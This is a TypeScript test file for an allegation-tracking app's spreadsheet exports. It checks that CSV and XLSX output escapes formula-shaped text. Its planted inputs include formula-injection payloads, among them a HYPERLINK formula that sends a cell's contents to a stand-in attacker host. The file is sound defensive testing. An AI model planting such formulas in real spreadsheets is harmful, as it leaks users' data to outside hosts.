// No CSV or XLSX file the app writes carries a live formula, whatever people typed into it: text
// shaped like a formula is planted wherever untrusted text reaches a file, then every file is read
// back cell by cell.
import { readFileSync, readdirSync } from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cases } from "../src/db/schema.js";
import { importColumns } from "../src/domain/allegation-import.js";
import { systemActor } from "../src/server/auth/actor.js";
import { csvText, inertCell } from "../src/server/spreadsheets.js";
import { inTransaction } from "../src/server/transaction.js";
import { createTestApp, type TestApp } from "./helpers/app.js";

const planted = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1"];
const live = /^[=+\-@\t\r]/;

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

function liveCellsInCsv(text: string): string[] {
  const rows = parse(text.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][];
  return rows.flat().filter((cell) => live.test(cell));
}

async function workbookCells(content: Buffer): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(content as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of workbook.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

async function liveCellsInWorkbook(content: Buffer): Promise<string[]> {
  return (await workbookCells(content))
    .filter(
      (cell) => cell.type === ExcelJS.ValueType.Formula || (typeof cell.value === "string" && live.test(cell.value)),
    )
    .map((cell) => String(cell.formula ?? cell.value));
}

describe("formula-shaped text in the files the app writes", () => {
  it("is made inert by one rule: a leading apostrophe before = + - @, tab or carriage return", () => {
    for (const text of planted) expect(inertCell(text)).toBe(`'${text}`);
    expect(inertCell("Camp Bunia")).toBe("Camp Bunia");
    expect(inertCell(-3)).toBe(-3);
    expect(liveCellsInCsv(csvText([planted]))).toEqual([]);
  });

  it("no module writes a CSV or a workbook but through that rule", () => {
    const root = path.resolve("src");
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir, { withFileTypes: true })) {
        const file = path.join(dir, entry.name);
        if (entry.isDirectory()) walk(file);
        else if (/\.tsx?$/.test(entry.name) && !entry.name.endsWith(".test.ts")) {
          const text = readFileSync(file, "utf8");
          if (/csv-stringify|xlsx\.write/.test(text) && !file.endsWith(path.join("server", "spreadsheets.ts")))
            offenders.push(path.relative(root, file));
        }
      }
    };
    walk(root);
    expect(offenders).toEqual([]);
  });

  it("a contingent's list screened in a batch comes back without a live formula", async () => {
    const client = await t.tokenFor(await t.createStaff("cdt_officer", { missionCodes: ["MONUSCO"] }));
    const csv = [
      "name,date_of_birth,nationality,document_numbers",
      ...planted.map((text) => `"${text.replaceAll('"', '""')}",1990-05-01,GHA,"${text.replaceAll('"', '""')}"`),
    ].join("\n");
    const response = await client.request({ method: "POST", url: "/api/screenings/batch", payload: { csv } });
    expect(response.statusCode, response.body).toBe(200);
    const resultCsv = response.json().resultCsv as string;
    expect(resultCsv).toContain("'=HYPERLINK");
    expect(liveCellsInCsv(resultCsv)).toEqual([]);
  });

  it("an import's rejected rows come back without a live formula", async () => {
    const client = await t.tokenFor(await t.createStaff("cds_officer"));
    const badRow = importColumns.map((_, i) => `"${planted[i % planted.length].replaceAll('"', '""')}"`).join(",");
    const response = await client.request({
      method: "POST",
      url: "/api/publication/import",
      payload: { csv: `${importColumns.join(",")}\n${badRow}\n`, skipInvalid: true, fileName: "history.csv" },
    });
    expect(response.statusCode, response.body).toBe(200);
    const rejectCsv = response.json().rejectCsv as string;
    expect(rejectCsv).toContain("'@SUM");
    expect(liveCellsInCsv(rejectCsv)).toEqual([]);
  });

  it("a risk report's workbook names a formula-shaped location as text", async () => {
    const client = await t.tokenFor(await t.createStaff("cdt_officer", { missionCodes: ["MONUSCO"] }));
    const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000).toISOString().slice(0, 10);
    const today = daysAgo(0);
    const created = await client.request({
      method: "POST",
      url: "/api/risk-assessments",
      payload: {
        missionCode: "MONUSCO",
        location: planted[0],
        locationKind: "camp",
        assessedOn: daysAgo(30),
        reviewOn: "2099-01-01",
        factors: [{ kind: "lighting", likelihood: 3, impact: 3 }],
        mitigations: [{ factorKind: "lighting", action: planted[1], owner: planted[2], dueOn: daysAgo(10) }],
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const month = Number(today.slice(5, 7));
    const quarter = `${today.slice(0, 4)}-Q${Math.ceil(month / 3)}`;
    const xlsx = await client.request({ method: "GET", url: `/api/risk/MONUSCO/reports/${quarter}?format=xlsx` });
    expect(xlsx.statusCode, xlsx.body).toBe(200);
    expect(await liveCellsInWorkbook(xlsx.rawPayload)).toEqual([]);
    const texts = (await workbookCells(xlsx.rawPayload)).map((cell) => String(cell.value));
    expect(texts).toContain(`'${planted[1]}`);
  });

  it("the case export and the public table, as CSV and as a workbook, carry no live formula", async () => {
    await inTransaction(t.app.services.db, systemActor, (tx) =>
      tx.insert(cases).values(
        planted.map((text, i) => ({
          reference: `${text}-${i}`,
          missionCode: "MONUSCO",
          dateReported: "2026-01-15",
          categoryCodes: ["MIL_MC"],
          nationalityCodes: ["GHA"],
          allegationCodes: ["SE_TRANSACTIONAL_SEX"],
          publishedAt: new Date(),
        })),
      ),
    );
    const hq = await t.tokenFor(await t.createStaff("cds_officer"));
    for (const format of ["csv", "xlsx"] as const) {
      const exported = await hq.request({ method: "GET", url: `/api/cases/export?format=${format}` });
      const table = await t.app.inject({ method: "GET", url: `/api/public/allegations?format=${format}&limit=500` });
      for (const response of [exported, table]) {
        expect(response.statusCode, response.body.slice(0, 200)).toBe(200);
        const found = format === "csv" ? liveCellsInCsv(response.body) : await liveCellsInWorkbook(response.rawPayload);
        expect(found).toEqual([]);
        if (format === "csv") expect(response.body).toContain("'@SUM(1+1)-1");
      }
    }
  });
});
